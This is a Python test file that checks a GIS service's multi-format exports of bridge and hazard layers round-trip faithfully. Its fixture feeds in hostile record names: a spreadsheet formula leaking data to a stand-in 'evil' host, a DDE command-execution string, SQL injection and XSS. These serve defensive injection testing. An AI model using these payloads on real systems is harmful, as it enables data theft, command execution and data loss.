"""Every layer in every format, read again by other programs, is what the database holds."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import geopandas as gpd
import openpyxl
import orjson
import pyarrow.parquet as pq
import pyogrio
import pytest
import shapely
import sqlalchemy as sa
from conftest import copied
from hypothesis import given
from hypothesis import strategies as st

from gis_service.database import Database
from gis_service.database.cluster import Cluster
from gis_service.exports import Export, export_file, place
from gis_service.exports.columns import Column, columns, headings
from gis_service.exports.shapefile import short_names
from layers import Language, Layer, registry

HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1)',
    "+cmd|' /C calc'!A0",
    "'; DROP TABLE bridges; --",
    "</name><script>alert(1)</script> ]]> &amp; `x`",
    '引号"、逗号,、分号;、反斜杠\\、百分号%s %%、花括号{0}',
    "两行\n三行\t制表",
    "控制\x01符\x0b、𠮷野家🌉、ǹ、العربية",
    "长" * 300,
    "-",
    "+86 591 8888",
    "",
)
CONTROLS = dict.fromkeys((1, 11))
Row = dict[str, Any]


@pytest.fixture(scope="module")
def district(cluster: Cluster, sample_template: str) -> Iterator[Database]:
    """The sample with hostile names, and with records that lie nowhere."""
    for database in copied(cluster, sample_template, "exports_formats"):
        with database.transaction() as connection:
            for name, layer in registry().items():
                ids = list(connection.exec_driver_sql(f"SELECT id FROM {name} ORDER BY id").scalars())
                for id_, hostile in zip(ids, HOSTILE, strict=False):
                    connection.execute(sa.text(f"UPDATE {name} SET name = :n WHERE id = :i"), {"n": hostile, "i": id_})
                extra = orjson.dumps({HOSTILE[4]: HOSTILE[4]}).decode()
                connection.execute(sa.text(f"UPDATE {name} SET extra = :e WHERE id = {ids[0]}"), {"e": extra})
                if not layer.placed:
                    connection.exec_driver_sql(f"UPDATE {name} SET geom = NULL WHERE id IN ({ids[1]}, {ids[-1]})")
            # a layer of two types of geometry, and a day that Excel does not know
            line = "ST_SetSRID(ST_MakeLine(ST_MakePoint(119.3, 26), ST_MakePoint(119.31, 26.02)), 4490)"
            connection.exec_driver_sql(
                f"UPDATE bridges SET geom = ST_Multi({line}), assessed_on = '1899-12-31', bci = 1e-3, "
                "cost = 123456789012.3456 WHERE id = (SELECT max(id) FROM bridges)"
            )
        yield database


def stored(database: Database, layer: type[Layer]) -> dict[str, Row]:
    """Return what the database holds, by code."""
    names = ", ".join(f'"{column.name}"' for column in columns(layer))
    with database.reading() as connection:
        query = f"SELECT {names}, ST_AsBinary(geom) AS geom FROM {layer.__tablename__}"
        rows = [dict(row) for row in connection.exec_driver_sql(query).mappings()]
    return {row["code"]: row | {"geom": row["geom"] and shapely.from_wkb(bytes(row["geom"]))} for row in rows}


def by_gdal(path: str, names: list[str], layer: type[Layer], **options: Any) -> Iterator[Row]:
    """Read a file with GDAL, the columns called as in the database."""
    own = [column.name for column in columns(layer)]
    # in two goes: GDAL 3.12 reads null geometries of FlatGeobuf wrongly into Arrow
    _, table = pyogrio.raw.read_arrow(path, read_geometry=False, **options)
    shapes = shapely.from_wkb(pyogrio.raw.read(path, columns=[], **options)[2])
    for row, shape in zip(table.to_pylist(), shapes, strict=True):
        yield {o: row.get(n) for o, n in zip(own, names, strict=True)} | {"geom": shape}


def read_gdal(path: Path, layer: type[Layer]) -> Iterator[Row]:
    yield from by_gdal(str(path), headings(columns(layer), "zh"), layer)


def read_json(path: Path, _: type[Layer]) -> Iterator[Row]:
    for feature in orjson.loads(path.read_bytes())["features"]:
        shape = feature["geometry"] and shapely.from_geojson(orjson.dumps(feature["geometry"]))
        yield feature["properties"] | {"geom": shape}


def read_json_lines(path: Path, layer: type[Layer]) -> Iterator[Row]:
    yield from by_gdal(str(path), headings(columns(layer), "en"), layer)


def read_shapes(path: Path, layer: type[Layer]) -> Iterator[Row]:
    with zipfile.ZipFile(path) as file:
        parts = [name for name in file.namelist() if name.endswith(".shp")]
    for part in parts:
        yield from by_gdal(f"/vsizip/{path}/{part}", short_names(headings(columns(layer), "en"), "UTF-8"), layer)


def read_parquet(path: Path, layer: type[Layer]) -> Iterator[Row]:
    names = [column.name for column in columns(layer)]
    frame = gpd.read_parquet(path)
    for row, shape in zip(pq.read_table(path).to_pylist(), frame.geometry, strict=True):
        values = list(row.values())
        yield dict(zip(names, values[:-1], strict=True)) | {"geom": shape}


def read_kml(path: Path, layer: type[Layer]) -> Iterator[Row]:
    names = [c.name + "_" * (c.name in ("name", "description")) for c in columns(layer)]
    yield from by_gdal(str(path), names, layer)


def _placed(row: Row, layer: type[Layer], axes: tuple[str, str]) -> Any:
    if layer.geometry == ("Point",):
        x, y = (row[axis] for axis in axes)
        return shapely.Point(float(x), float(y)) if x not in ("", None) else None
    return shapely.from_wkt(row["WKT"]) if row["WKT"] else None


def read_csv(path: Path, layer: type[Layer]) -> Iterator[Row]:
    content = path.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        values = {c.name: row[h] for c, h in zip(columns(layer), headings(columns(layer), "zh"), strict=True)}
        yield values | {"geom": _placed(row, layer, ("经度", "纬度"))}


def read_xlsx(path: Path, layer: type[Layer]) -> Iterator[Row]:
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["记录", "字段说明", "说明"]
    head, *rows = book["记录"].iter_rows(values_only=True)
    assert not [cell for row in book["记录"].iter_rows() for cell in row if cell.data_type == "f"]
    width = len(columns(layer))
    for cells in rows:
        row = dict(zip(head[width:], cells[width:], strict=True))
        values = {c.name: cell for c, cell in zip(columns(layer), cells, strict=False)}
        yield values | {"geom": _placed(row, layer, ("经度", "纬度"))}


READERS: dict[str, Callable[[Path, type[Layer]], Iterator[Row]]] = {
    "gpkg": read_gdal,
    "fgb": read_gdal,
    "geojson": read_json,
    "geojsonl": read_json_lines,
    "zip": read_shapes,
    "parquet": read_parquet,
    "kml": read_kml,
    "csv": read_csv,
    "xlsx": read_xlsx,
}


def in_words(column: Column, value: Any) -> Any:
    """Say a value as files for people do."""
    if column.field and column.field.vocabulary:
        return column.field.vocabulary[value].label.zh
    return registry()[value].title.zh if column.kind == "layer" else {True: "是", False: "否"}[value]


def as_written(column: Column, value: Any, suffix: str) -> Any:
    """Return what a format makes of a value of the database."""
    if suffix in ("kml", "xlsx") and column.kind in ("term", "layer", "flag") and value is not None:
        return in_words(column, value)
    if column.kind == "money" and value is not None:
        value = float(value)
    if column.kind == "json" and suffix != "geojson":
        value = orjson.dumps(value).decode()
    if suffix in ("kml", "xlsx") and isinstance(value, str):
        value = value.translate(CONTROLS)
    if suffix == "zip" and isinstance(value, str):
        value = value.encode()[:254].decode("utf-8", "ignore")
    if suffix == "csv":
        return as_text(column, value)
    if suffix == "kml" and isinstance(value, date):
        return str(value)
    if suffix == "geojson" and isinstance(value, date):
        return value.isoformat()
    return value


def as_text(column: Column, value: Any) -> str:
    if value is None:
        return ""
    if column.kind == "flag":
        return "是" if value else "否"
    text = str(value)
    return f"'{text}" if text in HOSTILE[:2] else text


def as_read(column: Column, value: Any) -> Any:
    """Return what a reader found as the database would say it."""
    if column.kind in ("number", "money", "whole") and value not in ("", None):
        return float(value)
    if column.kind == "date" and isinstance(value, datetime):
        return value.date()
    if column.kind == "json" and isinstance(value, str):
        return orjson.dumps(orjson.loads(value)).decode()
    return value


def multi(shape: Any) -> Any:
    """Return a shape whose pieces stand in an order of their own: formats change it."""
    kinds = {"LineString": shapely.MultiLineString, "Polygon": shapely.MultiPolygon}
    return shapely.normalize(kinds[shape.geom_type]([shape]) if shape.geom_type in kinds else shape)


@pytest.mark.parametrize("suffix", READERS)
@pytest.mark.parametrize("name", registry())
def test_what_is_read_is_what_is_stored(district: Database, tmp_path: Path, name: str, suffix: str) -> None:
    layer = registry()[name]
    expected = stored(district, layer)
    path = tmp_path / f"{name}.{suffix}"
    number = export_file(Export(district, layer), path)
    found = {row["code"]: row for row in READERS[suffix](path, layer)}
    assert number == len(expected) == len(found)
    for code, row in expected.items():
        read = found[code]
        for column in columns(layer):
            if column.kind == "moment" or (suffix == "kml" and not column.field):
                continue
            wanted = as_read(column, as_written(column, row[column.name], suffix))
            given = as_read(column, read[column.name])
            if suffix in ("xlsx", "zip") and wanted == "":
                wanted = None  # they do not tell an empty text from none
            if suffix == "xlsx" and isinstance(wanted, date) and wanted.year < 1900:
                wanted = wanted.isoformat()
            assert given == wanted, (code, column.name)
            assert type(given) is type(wanted), (code, column.name)
        if row["geom"] is None:
            assert read["geom"] is None
        else:
            assert shapely.equals_exact(multi(read["geom"]), multi(row["geom"]), 1e-8), code


def read_about(path: Path) -> dict[str, Any]:
    """Return the metadata that a file holds, or that stands beside it."""
    suffix = path.suffix[1:]
    if suffix in ("csv", "geojsonl"):
        return dict(orjson.loads(path.with_name(f"{path.name}.json").read_bytes()))
    if suffix == "geojson":
        return dict(orjson.loads(path.read_bytes()))
    if suffix == "parquet":
        return dict(orjson.loads(pq.read_metadata(path).metadata[b"about"]))
    return dict(orjson.loads(pyogrio.read_info(path)["layer_metadata"]["DESCRIPTION"]))


CHOSEN = {"filter": "grade IN ('C', 'D')", "area": "350104102"}
CODED = ("geojson", "geojsonl", "csv", "parquet", "fgb", "gpkg")


@pytest.mark.parametrize("suffix", CODED)
def test_a_file_says_what_it_is(district: Database, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"bridges.{suffix}"
    export_file(Export(district, registry()["bridges"], place=place("EPSG:4549"), **CHOSEN), path)
    about = read_about(path)
    said = {"title": "桥梁 Bridges", "source": "仓山区 Cangshan District", "as_of": "2023-10-31", "illustrative": True}
    assert said | CHOSEN | {"crs_name": "EPSG:4549"} == {k: about[k] for k in (*said, *CHOSEN, "crs_name")}
    assert "内部资料" in about["licence"]


@pytest.mark.parametrize("suffix", ["geojson", "csv", "parquet", "fgb"])
def test_a_file_explains_every_one_of_its_columns(district: Database, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"bridges.{suffix}"
    export_file(Export(district, registry()["bridges"]), path)
    explained = {field["name"]: field for field in read_about(path)["fields"]}
    names = list(pyogrio.read_info(path)["fields"]) if suffix != "parquet" else pq.read_schema(path).names[:-1]
    assert list(explained) == [name for name in names if name not in ("id", "WKT")]
    grade = explained["grade" if suffix == "geojson" else "技术状况等级"]
    assert grade["label"] == {"zh": "技术状况等级", "en": "Condition grade"}
    assert {"code": "未知", "zh": "未知", "en": "unknown"} in grade["codes"]


def test_a_geopackage_explains_its_columns_where_the_standard_has_a_place(district: Database, tmp_path: Path) -> None:
    export_file(Export(district, registry()["bridges"]), tmp_path / "bridges.gpkg")
    with sqlite3.connect(tmp_path / "bridges.gpkg") as file:
        rows = file.execute("SELECT column_name, name, description, constraint_name FROM gpkg_data_columns").fetchall()
        codes = file.execute(
            "SELECT value, description FROM gpkg_data_column_constraints WHERE constraint_name = 'bridges_grade'"
        ).fetchall()
    file.close()
    assert ("整治投资", "cost", "金额, 万元", None) in rows
    assert [row[0] for row in rows] == list(pyogrio.read_info(tmp_path / "bridges.gpkg")["fields"])
    assert ("未知", "未知") in codes


@pytest.mark.parametrize("language", ["zh", "en"])
def test_a_workbook_explains_its_columns_and_says_what_it_is(
    district: Database, tmp_path: Path, language: Language
) -> None:
    layer = registry()["bridges"]
    export_file(Export(district, layer, language=language, **CHOSEN), tmp_path / "a.xlsx")
    records, fields, about = openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets
    head = [cell.value for cell in records[1]]
    assert head[:-1] == [row[0].value for row in fields][1:]
    assert {"zh": "整治投资 (万元)", "en": "Cost of the work (万元)"}[language] in head
    said = [str(cell.value) for row in about for cell in row]
    assert {*CHOSEN.values(), "2023-10-31", {"zh": "仓山区", "en": "Cangshan District"}[language]} <= set(said)
    assert {"zh": "示意数据", "en": "Illustrative"}[language] in " ".join(said)


def test_dates_and_amounts_are_dates_and_numbers_in_a_workbook(district: Database, tmp_path: Path) -> None:
    layer = registry()["bridges"]
    export_file(Export(district, layer), tmp_path / "a.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["记录"]
    at = {name: i for i, name in enumerate(column_headings_of(sheet))}
    second = next(sheet.iter_rows(min_row=2))
    assert second[at["评定日期"]].is_date
    assert second[at["整治投资 (万元)"]].data_type == "n"


def column_headings_of(sheet: Any) -> list[str]:
    return [cell.value for cell in sheet[1]]


@pytest.mark.parametrize("encoding", ["UTF-8", "GBK"])
def test_a_shapefile_has_all_that_it_takes_to_read_its_chinese(
    district: Database, tmp_path: Path, encoding: str
) -> None:
    layer = registry()["bridges"]
    export_file(Export(district, layer, encoding=encoding), tmp_path / "a.zip")
    with zipfile.ZipFile(tmp_path / "a.zip") as file:
        parts = {name: file.read(name) for name in file.namelist()}
    for part in ("point", "line"):
        assert parts[f"bridges_{part}.cpg"].decode() == encoding
        assert b"CGCS2000" in parts[f"bridges_{part}.prj"] or b"China_Geodetic" in parts[f"bridges_{part}.prj"]
    explained = list(csv.DictReader(io.StringIO(parts["bridges_fields.csv"].decode("utf-8-sig"))))
    info = pyogrio.read_info(f"/vsizip/{tmp_path}/a.zip/bridges_point.shp")
    assert list(info["fields"]) == [row["字段"] for row in explained]
    assert {"UTF-8": "assessed_o", "GBK": "技术状况等"}[encoding] in info["fields"]
    about = parts["bridges_about.txt"].decode("utf-8-sig")
    assert "过长而截断的值: name 1" in about
    assert ("GBK 没有的字" in about) == (encoding == "GBK")
    names = pyogrio.read_dataframe(f"/vsizip/{tmp_path}/a.zip/bridges_point.shp").iloc[:, 1]
    assert HOSTILE[5] in set(names)
    assert ("长" * (127 if encoding == "GBK" else 84)) in set(names)


@given(
    st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=14), max_size=60),
    st.sampled_from(["UTF-8", "GBK"]),
)
def test_cut_names_fit_are_whole_and_differ(names: list[str], encoding: str) -> None:
    cut = short_names(names, encoding)
    assert len(cut) == len(names)
    assert len({name.casefold() for name in cut}) == len(cut)
    for name, given_ in zip(cut, names, strict=True):
        assert 0 < len(name.encode(encoding)) <= 10
        whole = given_.encode(encoding, "replace").decode(encoding)
        assert whole.startswith(name.rpartition("_")[0] if not whole.startswith(name) else name)


@pytest.mark.parametrize("suffix", READERS)
def test_an_export_of_nothing_can_be_opened(district: Database, tmp_path: Path, suffix: str) -> None:
    for layer in registry().values():
        path = tmp_path / f"{layer.__tablename__}.{suffix}"
        assert export_file(Export(district, layer, sa.false()), path) == 0
        if suffix not in ("geojsonl", "kml"):  # the former is an empty file, of the latter GDAL finds no layer
            assert list(READERS[suffix](path, layer)) == []


def test_kml_has_the_colours_of_the_layer_and_is_well_formed(district: Database, tmp_path: Path) -> None:
    layer = registry()["bridges"]
    export_file(Export(district, layer), tmp_path / "a.kml")
    tree = ET.parse(tmp_path / "a.kml").getroot()
    kml = {"k": "http://www.opengis.net/kml/2.2"}
    styles = {s.get("id"): s.findtext("k:IconStyle/k:color", None, kml) for s in tree.iterfind(".//k:Style", kml)}
    marks = tree.findall(".//k:Placemark", kml)
    vocabulary = layer.fields()["grade"].vocabulary
    assert vocabulary
    for mark in marks:
        text = mark.findtext("k:description", "", kml)
        term = next(term for term in vocabulary if f"技术状况等级: {term.label.zh}\n" in text)
        style = styles[(mark.findtext("k:styleUrl", "", kml))[1:]]
        assert style == "ff" + term.colour[5:7] + term.colour[3:5] + term.colour[1:3]
    assert len(marks) == len(stored(district, layer))


def test_a_geoparquet_holds_what_its_standard_asks_for(district: Database, tmp_path: Path) -> None:
    export_file(Export(district, registry()["bridges"]), tmp_path / "a.parquet")
    geo = orjson.loads(pq.read_metadata(tmp_path / "a.parquet").metadata[b"geo"])
    geometry = geo["columns"][geo["primary_column"]]
    frame = gpd.read_parquet(tmp_path / "a.parquet")
    assert (geo["version"], geometry["encoding"]) == ("1.1.0", "WKB")
    assert geometry["geometry_types"] == ["MultiLineString", "Point"]
    assert geometry["bbox"] == list(frame.total_bounds)
    assert frame.crs.to_epsg() == 4490


def test_gdal_on_its_own_finds_every_record(district: Database, tmp_path: Path) -> None:
    """Another build of GDAL than the one that wrote, where there is one."""
    if not shutil.which("ogrinfo"):
        pytest.skip("needs ogrinfo")
    layer = registry()["hazards"]
    for suffix in ("gpkg", "fgb", "kml", "geojson", "csv"):
        path = tmp_path / f"hazards.{suffix}"
        number = export_file(Export(district, layer), path)
        said = subprocess.run(["ogrinfo", "-ro", "-so", "-al", path], capture_output=True, text=True, check=True).stdout
        assert f"Feature Count: {number}" in said


def test_a_workbook_goes_on_on_another_sheet_where_one_is_full(
    district: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("gis_service.exports.excel._MOST_ROWS", 31)
    number = export_file(Export(district, registry()["bridges"]), tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    sheets = [sheet for sheet in book if sheet.title.startswith("记录")]
    assert [sheet.max_row for sheet in sheets] == [31, 31, number - 60 + 1]
    assert len({sheet.cell(1, 1).value for sheet in sheets}) == 1
